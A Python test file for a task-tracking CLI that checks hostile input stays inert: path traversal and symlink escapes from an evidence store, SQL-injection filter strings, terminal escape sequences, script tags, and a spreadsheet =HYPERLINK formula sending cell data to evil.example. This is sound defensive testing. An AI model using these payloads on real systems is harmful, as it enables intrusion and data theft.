"""Hostile input: evidence paths that try to leave the store, filters made of SQL, text made of markup and
terminal escapes. Each comes out as data: stored where it belongs, matched literally, shown literally."""

from __future__ import annotations

import hashlib
import io
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, text
from sqlmodel import SQLModel

from tasktrack.errors import UserError
from tasktrack.models import Evidence
from tasktrack.services.base import unit_of_work
from tasktrack.services.evidence import blob_path, check_source
from tasktrack.services.ledger import Ledger
from tasktrack.store.files import is_temp_name
from tests.conftest import AS_OF, BACKEND

M = "kaizhou-7p:1-M2"


def snapshot(ledger: Ledger) -> dict[str, str]:
    """A digest of every table's rows: equal snapshots mean nothing was written."""
    out = {}
    with ledger.ctx.engine.connect() as conn:
        for table in SQLModel.metadata.sorted_tables:
            rows = conn.execute(select(table).order_by(*table.primary_key.columns)).all()
            out[table.name] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return out


@pytest.fixture
def store(demo_ledger: Ledger, tmp_path: Path) -> Path:
    demo_ledger.ctx.files_dir = tmp_path / "store"
    return demo_ledger.ctx.files_dir


def files_under(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*") if p.is_file()) if path.exists() else []


# ---- evidence paths cannot escape the store ---------------------------------------------------------------


def test_a_stored_file_name_is_only_text_never_a_path(demo_ledger: Ledger, store: Path) -> None:
    sha = hashlib.sha256(b"proof").hexdigest()
    ev = demo_ledger.evidence
    names = ["../../etc/passwd", "/abs/path", "..", "C:\\Windows\\win.ini"]
    if BACKEND == "sqlite":  # PostgreSQL text cannot hold NUL at all (and no public route lets one in)
        names.append("a\x00b")
    for name in names:
        with unit_of_work(demo_ledger.ctx, "evidence add") as uow:
            eid = ev.add_in(uow, demo_ledger.milestones.get(M).id, file_name=name, sha=sha, size=5)
        assert ev.get(eid).file_name == name
        assert ev.path_of(eid) == store / sha[:2] / sha, name  # the hash alone places the file


@pytest.mark.parametrize(
    "sha",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "A" * 64,
        "g" * 64,
        "a" * 63,
        "a" * 65,
        "../" + "a" * 61,
        "a" * 63 + "\x00",
    ],
)
def test_blob_path_refuses_anything_but_a_lowercase_sha256(tmp_path: Path, sha: str) -> None:
    with pytest.raises(UserError, match="is not a SHA-256 hash"):
        blob_path(tmp_path, sha)


def test_a_tampered_hash_in_the_database_is_refused_not_followed(
    demo_ledger: Ledger, store: Path, tmp_path: Path
) -> None:
    source = tmp_path / "report.txt"
    source.write_text("统计表")
    eid = demo_ledger.evidence.add(M, file=str(source)).id
    with demo_ledger.ctx.engine.begin() as conn:
        conn.execute(
            Evidence.__table__.update().where(Evidence.id == eid).values(file_sha256="../../../etc/passwd")
        )
    with pytest.raises(UserError, match="is not a SHA-256 hash"):
        demo_ledger.evidence.path_of(eid)
    assert {r.evidence_id: r.state for r in demo_ledger.evidence.verify()}[eid] == "corrupt"


def test_an_absolute_source_path_is_copied_in_under_its_hash(
    demo_ledger: Ledger, store: Path, tmp_path: Path
) -> None:
    source = tmp_path / "elsewhere" / "..批复..pdf"
    source.parent.mkdir()
    source.write_bytes(b"%PDF approval")
    ev = demo_ledger.evidence.add(M, file=str(source.resolve()))
    sha = hashlib.sha256(b"%PDF approval").hexdigest()
    assert (ev.file_name, ev.file_sha256) == ("..批复..pdf", sha)
    assert files_under(store) == [f"{sha[:2]}/{sha}"]
    assert source.read_bytes() == b"%PDF approval"


def test_a_symlink_to_a_file_attaches_the_files_content(
    demo_ledger: Ledger, store: Path, tmp_path: Path
) -> None:
    """The choice: what the user sees when opening the link is what gets kept, as a copy, under the link's name."""
    real = tmp_path / "real.xlsx"
    real.write_bytes(b"ledger rows")
    link = tmp_path / "latest.xlsx"
    link.symlink_to(real)
    ev = demo_ledger.evidence.add(M, file=str(link))
    assert ev.file_name == "latest.xlsx"
    assert ev.file_sha256 == hashlib.sha256(b"ledger rows").hexdigest()
    kept = demo_ledger.evidence.path_of(ev.id)
    assert not kept.is_symlink() and kept.read_bytes() == b"ledger rows"
    real.write_bytes(b"changed later")  # the evidence does not follow the link
    assert {r.evidence_id: r.state for r in demo_ledger.evidence.verify()}[ev.id] == "ok"


def test_links_to_directories_or_nothing_are_refused(
    demo_ledger: Ledger, store: Path, tmp_path: Path
) -> None:
    cases = [
        (lambda p: p.symlink_to(tmp_path, target_is_directory=True), "is not a regular file"),
        (lambda p: p.symlink_to(tmp_path / "missing.pdf"), "is a symbolic link to nothing"),
        (lambda p: p.mkdir(), "is not a regular file"),
    ]
    before = snapshot(demo_ledger)
    for n, (make, message) in enumerate(cases):
        path = tmp_path / f"attach{n}.pdf"
        make(path)
        with pytest.raises(UserError, match=message):
            demo_ledger.evidence.add(M, file=str(path))
    assert snapshot(demo_ledger) == before and files_under(store) == []


def test_a_nul_byte_in_the_path_is_refused(demo_ledger: Ledger, store: Path, tmp_path: Path) -> None:
    (tmp_path / "a").write_text("x")
    before = snapshot(demo_ledger)
    with pytest.raises(UserError, match="NUL byte"):
        demo_ledger.evidence.add(M, file=str(tmp_path / "a") + "\x00.pdf")
    with pytest.raises(UserError, match="NUL byte"):
        check_source("\x00")
    assert snapshot(demo_ledger) == before


def test_a_store_that_is_itself_a_symlink_is_followed(demo_ledger: Ledger, tmp_path: Path) -> None:
    """The choice: an administrator may put the files on another disk by linking the store directory there."""
    disk = tmp_path / "other-disk"
    disk.mkdir()
    (tmp_path / "store").symlink_to(disk, target_is_directory=True)
    demo_ledger.ctx.files_dir = tmp_path / "store"
    source = tmp_path / "photo.jpg"
    source.write_bytes(b"jpeg")
    ev = demo_ledger.evidence.add(M, file=str(source))
    sha = ev.file_sha256
    assert files_under(disk) == [f"{sha[:2]}/{sha}"]
    assert demo_ledger.evidence.path_of(ev.id).read_bytes() == b"jpeg"
    assert [r.state for r in demo_ledger.evidence.verify()] == ["ok"]


def test_a_symlink_inside_the_store_cannot_lead_out(demo_ledger: Ledger, store: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    data = b"evidence"
    sha = hashlib.sha256(data).hexdigest()
    store.mkdir()
    (store / sha[:2]).symlink_to(outside, target_is_directory=True)  # a planted shard directory
    source = tmp_path / "e.txt"
    source.write_bytes(data)
    before = snapshot(demo_ledger)
    with pytest.raises(UserError, match="is a symbolic link; the store must hold its files itself"):
        demo_ledger.evidence.add(M, file=str(source))
    assert files_under(outside) == [] and snapshot(demo_ledger) == before
    assert not [p for p in store.iterdir() if is_temp_name(p.name)]  # no temporary file left


def test_a_blob_replaced_by_a_symlink_is_not_served(demo_ledger: Ledger, store: Path, tmp_path: Path) -> None:
    source = tmp_path / "e.txt"
    source.write_bytes(b"evidence")
    ev = demo_ledger.evidence.add(M, file=str(source))
    blob = store / ev.file_sha256[:2] / ev.file_sha256
    secret = tmp_path / "secret"
    secret.write_bytes(b"evidence")  # even with the same content
    os.chmod(blob, 0o644)
    blob.unlink()
    blob.symlink_to(secret)
    with pytest.raises(UserError, match="is a symbolic link"):
        demo_ledger.evidence.path_of(ev.id)
    assert [r.state for r in demo_ledger.evidence.verify()] == ["corrupt"]


# ---- filters reach the database only as bound parameters ----------------------------------------------------

NASTY = ["' OR 1=1 --", "%", "_", "\\", '"; DROP TABLE change; --', "50%", "1_M", "'", "\\%"]


def _literal(needle: str, *fields: str | None) -> bool:
    return any(needle.lower() in (f or "").lower() for f in fields)


@pytest.fixture
def planted(demo_ledger: Ledger) -> Ledger:
    """Text containing the metacharacters literally, so that a literal match has something to find."""
    demo_ledger.milestones.edit(M, {"metric": "完成率50%以上 (1_M) ' OR 1=1 -- \\ \"; DROP TABLE change; --"})
    demo_ledger.tasks.edit("kaizhou-7p:2-3", {"title": "引进_研发机构 100% \\%"})
    return demo_ledger


def test_milestone_text_filter_matches_literally(cli: Any, planted: Ledger) -> None:
    before = snapshot(planted)
    everything = planted.milestones.list()
    for needle in NASTY:
        expected = [m.id for m in everything if _literal(needle, m.metric, m.code, m.quote, m.task_title)]
        r = cli("milestone", "list", "--text", needle, "--json")
        assert r.code == 0, r.err
        assert [m["id"] for m in json.loads(r.out)["milestones"]] == expected, needle
        assert len(expected) < len(everything)  # never "everything", which is what an injection would give
    assert snapshot(planted) == before


def test_task_text_filter_matches_literally(cli: Any, planted: Ledger) -> None:
    before = snapshot(planted)
    everything = planted.tasks.list()
    for needle in NASTY:
        expected = [t.id for t in everything if _literal(needle, t.title, t.code, t.text)]
        r = cli("task", "list", "--text", needle, "--json")
        assert r.code == 0, r.err
        assert [t["id"] for t in json.loads(r.out)["tasks"]] == expected, needle
        assert len(expected) < len(everything)
    assert snapshot(planted) == before


def test_unknown_units_and_plans_made_of_sql_are_refused(cli: Any, planted: Ledger) -> None:
    before = snapshot(planted)
    for option in ("--unit", "--plan"):
        for needle in NASTY:
            r = cli("milestone", "list", option, needle, "--json")
            thing = {"--unit": "找不到单位", "--plan": "找不到规划"}[option]
            assert r.code == 2 and r.out == "" and thing in r.err, (option, needle)
    assert snapshot(planted) == before


def test_a_unit_named_like_sql_matches_only_itself(cli: Any, planted: Ledger) -> None:
    name = "x' OR 1=1 --"
    planted.units.add(name)
    planted.tasks.assign("kaizhou-7p:2-3", lead=name)
    before = snapshot(planted)
    r = cli("milestone", "list", "--unit", name, "--json")
    assert r.code == 0, r.err
    got = json.loads(r.out)["milestones"]
    assert got and {m["lead"]["name"] for m in got} == {name}
    assert {m["code"] for m in got} == {m.code for m in planted.milestones.list() if m.task_code == "2-3"}
    assert snapshot(planted) == before


def test_history_actor_filter_matches_exactly(cli: Any, planted: Ledger) -> None:
    odd = "o'brien%_\\"
    assert cli("--as", odd, "milestone", "progress", M, "12").code == 0
    assert cli("--as", "o'brienX", "milestone", "progress", M, "13").code == 0
    before = snapshot(planted)
    for needle in [*NASTY, odd]:
        r = cli("history", "--actor", needle, "--limit", "1000", "--json")
        assert r.code == 0, r.err
        actors = [c["actor"] for c in json.loads(r.out)["changes"]]
        assert set(actors) <= {needle} and (needle == odd) == bool(actors), needle
    assert snapshot(planted) == before


def test_the_change_table_survives_every_filter(planted: Ledger) -> None:
    with planted.ctx.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM change")).scalar_one() > 0


# ---- markup and terminal escapes come out literally -------------------------------------------------------

TITLE = "=1+2 [/] [bold red]x[/] [@click=app.quit] <script>alert(1)</script>"
METRIC = "-新增 \x1b[2J\x1b]52;c;AAAA\x07 \u202e翻转 [link=file:///etc/passwd]y[/link]"
RAW = ("\x1b", "\x07", "\u202e")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'  # a whole cell of the annex (进展情况)


@pytest.fixture
def marked(demo_ledger: Ledger) -> Ledger:
    demo_ledger.ctx.stated_on = AS_OF  # made for the day the reports read (--as-of 2022-01-10), as the CLI does
    demo_ledger.tasks.edit("kaizhou-7p:1-3", {"title": TITLE})
    demo_ledger.milestones.edit(M, {"metric": METRIC})
    demo_ledger.progress.add(M, unit=None, period="2021-12", progress=FORMULA, on_milestone=True)
    return demo_ledger


def weekly(cli: Any, fmt: str, tmp_path: Path) -> Any:
    out = tmp_path / f"weekly.{fmt}"
    r = cli("--as-of", "2022-01-10", "report", "weekly", "--format", fmt, "--draft", "-o", str(out))
    assert r.code == 0, r.err
    return out.read_bytes() if fmt == "xlsx" else out.read_text(encoding="utf-8")


def test_text_report_shows_escapes_as_symbols_and_brackets_as_typed(
    cli: Any, marked: Ledger, tmp_path: Path
) -> None:
    out = weekly(cli, "text", tmp_path)
    assert not any(c in out for c in RAW)
    assert "␛[2J␛]52;c;AAAA␇ <U+202E>翻转" in out
    assert "[/] [bold red]x[/] [@click=app.quit]" in out


def test_markdown_report_escapes_markup(cli: Any, marked: Ledger, tmp_path: Path) -> None:
    out = weekly(cli, "md", tmp_path)
    assert not any(c in out for c in RAW)
    assert r"\[bold red\]x\[/\] \[@click=app.quit\] \<script\>" in out
    assert "␛\\[2J" in out and "<script>" not in out


def test_html_report_escapes_everything(cli: Any, marked: Ledger, tmp_path: Path) -> None:
    out = weekly(cli, "html", tmp_path)
    assert not any(c in out for c in RAW)
    assert "[bold red]x[/] [@click=app.quit] &lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "<script>" not in out and "&lt;U+202E&gt;翻转" in out


def test_xlsx_report_cells_hold_visible_text_never_formulas(cli: Any, marked: Ledger, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    data = weekly(cli, "xlsx", tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    cells = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    assert not any(ch in c.value for c in texts for ch in (*RAW, "\x00"))
    assert any("␛[2J␛]52;c;AAAA␇ <U+202E>翻转" in c.value for c in texts)
    assert any("=1+2 [/] [bold red]x[/]" in c.value for c in texts)
    (cell,) = [c for c in texts if c.value == FORMULA]
    assert cell.quotePrefix  # stays text even when someone edits it in WPS


def test_json_report_escapes_controls_and_round_trips(cli: Any, marked: Ledger, tmp_path: Path) -> None:
    out = weekly(cli, "json", tmp_path)
    assert not any(c in out for c in RAW)
    strings = _strings(json.loads(out))  # escaped on the wire, exact once parsed
    assert any(METRIC in s for s in strings) and any(TITLE in s for s in strings)


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_cli_lists_and_json_keep_it_literal(cli: Any, marked: Ledger) -> None:
    r = cli("milestone", "show", M)
    assert r.code == 0 and not any(c in r.out for c in RAW)
    assert "␛[2J" in r.out and "[bold red]x[/]" in r.out
    r = cli("milestone", "list", "--plan", "kaizhou-7p", "--json")
    assert not any(c in r.out for c in RAW)
    (m,) = [m for m in json.loads(r.out)["milestones"] if m["code"] == "1-M2"]
    assert m["metric"] == METRIC and m["task_title"] == TITLE


def test_reminder_json_escapes_controls_and_round_trips(cli: Any, marked: Ledger) -> None:
    r = cli("--as-of", "2022-01-10", "remind", "--format", "json")
    assert r.code in (10, 11), r.err  # something is overdue: the notices are printed
    assert not any(c in r.out for c in RAW)
    assert any(METRIC in s for s in _strings(json.loads(r.out)))
